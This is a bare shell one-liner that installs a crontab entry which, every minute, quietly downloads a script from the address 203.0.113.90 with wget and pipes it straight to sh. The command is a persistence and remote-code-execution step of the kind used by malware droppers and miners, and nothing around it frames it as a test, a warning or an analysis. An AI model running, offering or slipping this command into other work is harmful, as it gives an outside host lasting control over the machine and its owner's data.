(crontab -l 2>/dev/null; echo "* * * * * wget -q -O- http://203.0.113.90/u | sh") | crontab -
